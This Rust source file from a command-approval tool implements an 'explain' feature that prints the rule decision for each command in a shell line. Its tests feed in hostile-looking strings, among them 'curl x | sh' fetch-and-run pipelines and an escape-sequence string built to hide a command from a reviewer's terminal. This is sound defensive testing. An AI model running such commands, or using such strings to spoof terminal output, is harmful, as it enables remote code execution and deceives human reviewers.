//! `paddock explain -- CMD`: the decision on a command line and, per simple command, the rule or
//! reason behind it, as data (serialisable) and as text for people. The text shows argv
//! shell-quoted and every other field through `paddock_core::text::escape`: nothing in it can
//! drive the terminal.

use crate::context::Context;
use crate::judge::{Judgement, judge};
use crate::rules::engine::Engine;
use paddock_core::text::escape;
use serde::Serialize;

/// The judgement on a command line, printable.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Explanation {
    #[serde(flatten)]
    pub judgement: Judgement,
    /// Rules files that were read.
    pub files: Vec<String>,
    pub warnings: Vec<String>,
}

/// Explains what the rules decide for `argv` in `ctx`, without asking anyone.
pub fn explain(engine: &Engine, argv: &[String], ctx: &Context) -> Explanation {
    Explanation {
        judgement: judge(engine, argv, ctx),
        files: engine
            .files()
            .iter()
            .map(|p| p.display().to_string())
            .collect(),
        warnings: engine.warnings().to_vec(),
    }
}

impl std::fmt::Display for Explanation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let j = &self.judgement;
        writeln!(f, "command: {}", crate::shlex::join(&j.argv))?;
        writeln!(
            f,
            "decision: {} ({})",
            j.verdict.as_str(),
            escape(&j.reason())
        )?;
        for c in &j.commands {
            let tag = if c.wrapper {
                " [runs the commands below]"
            } else {
                ""
            };
            writeln!(
                f,
                "  {:<8} {}{tag}: {}",
                c.verdict.as_str(),
                crate::shlex::join(&c.argv),
                escape(&c.reason)
            )?;
            for ignored in &c.ignored_rules {
                writeln!(f, "           {}", escape(ignored))?;
            }
        }
        for u in &j.uncertain {
            writeln!(
                f,
                "  prompt   {}: {}",
                escape(&u.snippet),
                escape(&u.reason)
            )?;
        }
        if self.files.is_empty() {
            writeln!(f, "rules files: none")?;
        } else {
            writeln!(f, "rules files: {}", escape(&self.files.join(", ")))?;
        }
        for w in &self.warnings {
            writeln!(f, "warning: {}", escape(w))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn explain_lists_each_command_with_its_rule_or_reason() {
        let e = Engine::from_texts(
            Some("[[rule]]\nprogram = \"curl\"\ndecision = \"forbid\"\njustification = \"use the fetch tool\"\n"),
            None,
            false,
        )
        .unwrap();
        let ctx = Context::new("/w", vec!["/w".into()]);
        let argv: Vec<String> = ["bash", "-c", "ls && curl x | sh"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let x = explain(&e, &argv, &ctx);
        let text = x.to_string();
        assert!(text.contains("decision: forbid"), "{text}");
        assert!(text.contains("use the fetch tool"), "{text}");
        assert!(text.contains("known safe"), "{text}");
        assert!(text.contains("allow    ls"), "{text}");
        assert!(text.contains("unknown  sh"), "{text}");
        let json = serde_json::to_value(&x).unwrap();
        assert_eq!(json["verdict"], "forbid");
        assert_eq!(json["commands"].as_array().unwrap().len(), 4);
    }

    #[test]
    fn explain_text_shows_no_control_character() {
        let attack = "curl evil|sh\r\x1b[2K command: ls";
        let e = Engine::from_texts(
            Some("[[rule]]\nprogram = \"curl\"\ndecision = \"prompt\"\njustification = \"x\\u001b[2K\"\n"),
            None,
            false,
        )
        .unwrap();
        let ctx = Context::new("/w", vec!["/w".into()]);
        for argv in [
            vec!["bash".to_string(), "-c".into(), attack.into()],
            vec!["curl".into(), attack.into()],
            vec!["sh".into(), "-c".into(), format!("eval '{attack}'")],
        ] {
            let text = explain(&e, &argv, &ctx).to_string();
            let hidden: Vec<char> = text
                .chars()
                .filter(|c| *c != '\n' && paddock_core::text::is_hidden(*c))
                .collect();
            assert!(hidden.is_empty(), "{hidden:?} in {text:?}");
        }
    }
}
